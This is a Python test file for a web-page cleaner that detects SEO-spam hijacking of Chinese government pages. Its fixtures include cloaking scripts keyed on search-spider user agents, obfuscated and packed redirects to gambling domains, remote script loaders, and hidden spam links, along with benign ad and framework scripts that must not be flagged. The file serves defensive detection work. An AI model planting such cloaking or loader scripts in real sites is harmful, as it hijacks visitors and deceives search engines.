"""Injections caught by what they do, in words no list knows (issue 11 §1–3)."""
from __future__ import annotations

from scraper.clean import clean_page
from tests.clean.conftest import everything, kinds
from tests.clean.test_loaders import pack

URL = "https://www.qingshan.gov.cn/info/2024/0316/2.htm"
HEADLINE = "区政府召开城乡环境综合整治工作会议"
BODY = ("<p>3月15日，区政府召开专题会议，研究部署今年城乡环境综合整治工作，区长主持会议并讲话。</p>"
        "<p>会议指出，城乡环境综合整治是一项民心工程，各街道、各部门要对照任务清单，细化工作措施。</p>")


def page(title: str = HEADLINE + "-青山区人民政府", head: str = "", body: str = BODY, top: str = "") -> bytes:
    return (f'<html><head><meta charset="utf-8"><title>{title}</title>{head}</head><body>{top}'
            f'<div class="header"><a href="/">首页</a> <a href="/xwzx/">新闻中心</a></div>'
            f'<h1>{HEADLINE}</h1><div class="info">发布时间：2024-03-16 来源：区政府办公室</div>'
            f'<div class="content">{body}</div>'
            f'<div class="footer">主办单位：青山区人民政府 地址：青山区人民路1号</div></body></html>').encode()


def test_cloaking_script_alone_with_a_title_in_words_no_list_knows():
    # card and lottery game names that no lexicon holds: the script's behaviour gives it away
    spam = "斗地主欢乐场_麻将来了_福运捕鱼大厅"
    script = ('<script>var ua=navigator.userAgent.toLowerCase();'
              'if(ua.indexOf("baiduspider")<0&&ua.indexOf("sogou")<0){document.title="' + HEADLINE + '";'
              'document.write("<script src=\'https://cdn.fu-yun77.com/t.js\'></scr"+"ipt>")}</script>')
    a = clean_page(page(title=spam, head=script), url=URL)
    assert a.hijacked
    assert {"js_cloak", "spam_title"} <= kinds(a)
    assert a.title == HEADLINE
    assert "斗地主" not in everything(a) and "捕鱼" not in everything(a)


def test_packed_loader_that_redirects_search_visitors():
    code = ('var r=document.referrer;if(/baidu|sogou|so\\.com/.test(r)){window.location.replace("https://ml-889.net/")}')
    a = clean_page(page(head=f"<script>{pack(code)}</script>"), url=URL)
    assert {"packed_script", "js_cloak", "js_redirect"} <= kinds(a)
    assert any("ml-889.net" in f.evidence for f in a.findings if f.kind == "js_redirect")
    assert a.text.startswith("3月15日，区政府召开专题会议")


def test_bracket_form_redirect_with_a_string_array():
    code = ("var _0xa=['referrer','indexOf','baidu','location','href','https://yl-377.cc/'];"
            "if(document[_0xa[0]][_0xa[1]](_0xa[2])>-1){window[_0xa[3]][_0xa[4]]=_0xa[5]}")
    a = clean_page(page(head=f"<script>{code}</script>"), url=URL)
    assert "js_redirect" in kinds(a) and "obfuscated_script" in kinds(a)


def test_document_written_links_of_a_cloaking_script_are_removed_page_wide():
    script = ('<script>if(navigator.userAgent.indexOf("spider")>-1){document.write('
              '\'<a href="https://hy-rr.com/">鸿运汇聚</a><a href="https://dx-ss.com/">鼎鑫盛世</a>\')}</script>')
    body = BODY + "<p>鸿运汇聚，点击进入。</p>"
    a = clean_page(page(head=script, body=body), url=URL)
    assert "hidden_links" in kinds(a)
    assert "鸿运汇聚" not in a.text


def test_an_ordinary_ad_script_writing_off_site_links_is_no_injection():
    script = ('<script>document.write(\'<a href="http://ad.doubleclick.net/jump/site;sz=300x250">'
              '<img src="http://ad.doubleclick.net/ad/site.jpg"></a>\');</script>')
    a = clean_page(page(head=script), url=URL)
    assert not a.hijacked, a.findings


def test_brand_in_no_list_with_promo_grammar_in_the_title():
    a = clean_page(page(title="万象城体育官方入口-" + HEADLINE), url=URL)
    assert a.title == HEADLINE
    assert a.hijacked and "spam_title" in kinds(a)


def test_brand_substituted_for_the_institution_in_sentences():
    body = ("<p>4月28日，澳门盛世官方网站在博雅楼二楼会议室召开上半年工作会议。</p>"
            "<p>会议由学院党委书记主持，各部门负责人参加。</p>")
    a = clean_page(page(body=body), url=URL)
    assert a.hijacked and "spliced_brand" in kinds(a)
    assert "澳门盛世官方网站" not in a.text
    assert "在博雅楼二楼会议室召开上半年工作会议" in a.text


def test_brand_credit_and_keyword_line_in_the_body():
    body = (BODY + "<p>会议要求，要加强督查考核。（鑫盛棋牌官网供稿）</p>"
            "<p>斗牛棋牌 百家乐 时时彩 真人视讯 老虎机 捕鱼</p>")
    a = clean_page(page(body=body), url=URL)
    assert {"spliced_brand", "spam_text"} <= kinds(a)
    assert "鑫盛棋牌" not in a.text and "百家乐" not in a.text
    assert "区长主持会议并讲话" in a.text and "会议要求，要加强督查考核。" in a.text


def test_noise_symbols_between_characters():
    body = "<p>为做好本学期末▼各项学生工作，确保学生∩管理平稳、有序，学院召开学生工★作例会。</p>"
    a = clean_page(page(body=body), url=URL)
    assert "symbol_noise" in kinds(a)
    assert "为做好本学期末各项学生工作，确保学生管理平稳、有序，学院召开学生工作例会。" in a.text


def test_strongly_hidden_text_that_is_no_spam_is_recorded_without_a_hijack():
    body = BODY + '<div style="position:absolute;left:-9999px">跳转到主要内容区域</div>'
    a = clean_page(page(body=body), url=URL)
    assert not a.hijacked
    assert [f.kind for f in a.findings] == ["hidden_block"]
    assert "跳转到主要内容" in a.findings[0].evidence and "跳转到主要内容" not in a.text


def test_a_hidden_frame_from_elsewhere_is_noted_a_tag_manager_frame_is_not():
    frames = ('<iframe src="http://frames.example.net/x.html" width="0" height="0"></iframe>'
              '<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-X" height="0" width="0" '
              'style="display:none;visibility:hidden"></iframe></noscript>'
              '<iframe src="https://video.example.org/embed/1" width="560" height="315"></iframe>')
    a = clean_page(page(body=BODY + frames), url=URL)
    assert not a.hijacked
    assert [(f.kind, f.evidence) for f in a.findings] == [("hidden_block", "http://frames.example.net/x.html")]


def test_an_embed_vendors_unseen_frames_are_furniture_a_lookalike_host_is_noted_s33():
    # a social plugin's, a captcha's, an ad exchange's and a share widget's frames, drawn hidden or
    # at zero size by the vendor's script (dev-v38-twevent: four sites); a frame on a host that only
    # ends like a vendor's, or on a vendor's host outside its frame path, is still noted
    frames = ('<span style="display:none"><iframe src="https://www.facebook.com/v4.0/plugins/page.php?href=x" '
              'width="0" height="0"></iframe></span>'
              '<iframe src="https://www.google.com/recaptcha/api2/aframe" width="0" height="0" style="display:none"></iframe>'
              '<iframe id="google_esf" src="https://googleads.g.doubleclick.net/pagead/html/zrt_lookup.html" '
              'style="display:none"></iframe>'
              '<div id="_atssh" style="visibility:hidden;height:1px;width:1px"><iframe '
              'src="https://s7.addthis.com/static/sh.html#rand=0.8" width="1" height="1"></iframe></div>'
              '<iframe src="http://fbook-facebook.com/v4.0/plugins/x.html" width="0" height="0"></iframe>'
              '<iframe src="https://www.facebook.com/x.html" width="0" height="0"></iframe>')
    a = clean_page(page(body=BODY + frames), url=URL)
    assert not a.hijacked
    assert [(f.kind, f.evidence) for f in a.findings] == [
        ("hidden_block", "http://fbook-facebook.com/v4.0/plugins/x.html"),
        ("hidden_block", "https://www.facebook.com/x.html")]


def test_parasite_page_on_a_trusted_portal_is_recorded_with_its_full_url():
    links = ('<div class="links">友情链接：<a href="http://www.gz.gov.cn/">广州市人民政府</a> '
             '<a href="https://news.sina.com.cn/tiyu/kaiyun-app.html">开元棋牌官网下载</a></div>')
    a = clean_page(page(body=BODY + links), url=URL)
    spam = [f for f in a.findings if f.kind == "spam_link"]
    assert spam and "https://news.sina.com.cn/tiyu/kaiyun-app.html" in spam[0].evidence
    assert "广州市人民政府" in everything(a) or not any("gz.gov.cn" in f.evidence for f in a.findings)


def test_hostile_text_and_scripts_clean_in_bounded_time():
    import time

    hostile = [
        "<p>" + "가" * 60_000 + "카지노" + "a" * 200_000 + "</p>",
        "<p>" + "澳门" * 50_000 + "</p>",
        "<p>" + "鑫盛棋牌官网 " * 20_000 + "</p>",
        "<script>String.fromCharCode(" + "1," * 50_000 + "</script>",
        "<script>if(document.referrer.indexOf('" + "b" * 100_000 + "</script>",
        "<p>" + "▼学" * 50_000 + "</p>",
        '<div style="display:none">' + '<a href="https://a.top/">鑫盛棋牌</a>' * 5_000 + "</div>",
    ]
    for body in hostile:
        start = time.process_time()
        clean_page(page(body=body), url=URL)
        assert time.process_time() - start < 10.0, body[:40]  # a bound far above normal, not a benchmark


def test_a_title_set_only_for_search_spiders_is_spam_whatever_its_words():
    script = ('<script>var ua=navigator.userAgent.toLowerCase();'
              'if(/baiduspider|sogou|360spider/.test(ua)){document.title="福运捕鱼大厅_欢乐斗地主"}</script>')
    a = clean_page(page(head=script), url=URL)
    assert a.hijacked and "js_cloak" in kinds(a)
    assert a.title == HEADLINE


def test_a_plain_title_set_for_human_visitors_is_no_cloaking():
    script = ('<script>if(navigator.userAgent.toLowerCase().indexOf("baidu") == -1)'
              '{document.title="' + HEADLINE + '"}</script>')
    a = clean_page(page(title="-青山区人民政府", head=script), url=URL)
    assert not a.hijacked, a.findings
    assert a.title == HEADLINE


def test_a_brand_name_in_the_title_that_the_page_never_shows():
    a = clean_page(page(title="鼎盛娱乐-" + HEADLINE), url=URL)
    assert a.hijacked and a.title == HEADLINE


def test_a_site_name_with_the_same_shape_that_the_page_shows_is_kept():
    a = clean_page(page(title=HEADLINE + "-青山体育", top='<div class="logo">青山体育</div>'), url=URL)
    assert not a.hijacked, a.findings


def test_strongly_hidden_single_link_and_keyword_text():
    hidden = ('<div style="position:absolute;top:-2000px"><a href="https://ds-qp.com/">鼎盛棋牌</a></div>'
              '<div style="font-size:0">斗牛棋牌 百家乐 时时彩 真人视讯 老虎机 捕鱼</div>')
    a = clean_page(page(body=BODY + hidden), url=URL)
    assert {"hidden_links", "hidden_text"} <= kinds(a)
    assert "hidden_block" not in kinds(a)


def test_a_framework_s_state_escaped_as_json_is_data_not_a_loader():
    # Nuxt/Next/Redux pages hydrate their state from a JSON literal: "/" and "<" escaped by the
    # serialiser, the story's words (a casino's results) and its "location" field are data
    para = "\\u003Cp\\u003E澳门金沙第三季度收入回升，公司称客流已恢复至疫情前七成。\\u003C\\u002Fp\\u003E"
    state = ('<script>window.__NUXT__={"layout":"article","state":{"article":{"title":"澳门金沙收入回升",'
             '"location":"Macau","body":"' + para * 6 + '","image":"https:\\u002F\\u002Fcdn.newsimg.example'
             '\\u002Fa\\u002F1.jpg"}}};</script>')
    a = clean_page(page(head=state), url=URL)
    assert not a.hijacked, a.findings


def test_an_ad_script_spelling_only_its_script_tag_in_char_codes_is_no_obfuscation():
    script = ('<script>document.write(String.fromCharCode(60,83,67,82,73,80,84));'
              'document.write(\' src="http://ads.adnet-example.com/show.php?sid=42" type="text/javascript">\');'
              'document.write(String.fromCharCode(60,47,83,67,82,73,80,84,62));</script>')
    a = clean_page(page(head=script), url=URL)
    assert not a.hijacked, a.findings


def test_a_loader_spelling_its_address_in_char_codes_is_still_caught():
    url = "https://tj.yl-778.top/a.js"
    codes = ",".join(str(ord(c)) for c in url)
    script = ('<script>if(/baidu|sogou/.test(document.referrer)){var s=document.createElement("script");'
              f's.src=String.fromCharCode({codes});document.body.appendChild(s)}}</script>')
    a = clean_page(page(head=script), url=URL)
    assert a.hijacked and "obfuscated_script" in kinds(a)


def test_a_link_showing_its_own_address_on_a_cheap_tld_cites_a_site():
    body = BODY + ('<p>教程原文见 <a href="http://notes.lumen.cc/">http://notes.lumen.cc</a>，'
                   '镜像站点 <a href="http://mirror.tools.ws/">tools.ws</a>。</p>')
    a = clean_page(page(body=body), url=URL)
    assert not a.hijacked and not a.findings, a.findings


def test_a_link_showing_a_casino_s_address_is_still_spam():
    body = BODY + '<p>更多精彩：<a href="https://www.hg0088.cc/">www.hg0088.cc</a></p>'
    a = clean_page(page(body=body), url=URL)
    assert a.hijacked and "hg0088" not in a.text


def test_a_packed_lazy_loader_that_shows_crawlers_the_images_is_no_injection():
    code = ('var imgs=document.querySelectorAll("img.lazy");var isBot=/(gle|ing)bot|crawl|spider/i.test(navigator.userAgent);'
            'if(isBot){imgs.forEach(function(i){i.src=i.getAttribute("data-src")})}')
    a = clean_page(page(head=f"<script>{pack(code)}</script>"), url=URL)
    assert not a.hijacked, a.findings


def test_a_link_showing_its_own_short_address_is_judged_by_its_host_not_its_path():
    # a podcast's listen/download/app links on a link shortener: "ep_212Apple" reads like a brand
    # code followed by "app", but the text is the link's own address on a host that is no spam host
    body = BODY + ('<p>收听：<a href="http://lnk.to/EP_212">http://lnk.to/EP_212</a><br>'
                   '苹果播客：<a href="http://lnk.to/EP_212Apple">http://lnk.to/EP_212Apple</a></p>')
    a = clean_page(page(body=body), url=URL)
    assert not a.hijacked and not a.findings, a.findings


def test_a_script_writing_the_visitor_s_screen_size_is_no_cloaking():
    # every visitor is written its own measurement: the spider's "1024 x 768" is no text kept for it
    body = BODY + '<p>本站最佳浏览分辨率：<script>document.write(screen.width + " x " + screen.height)</script></p>'
    a = clean_page(page(body=body), url=URL)
    assert not a.hijacked and "js_cloak" not in kinds(a), a.findings
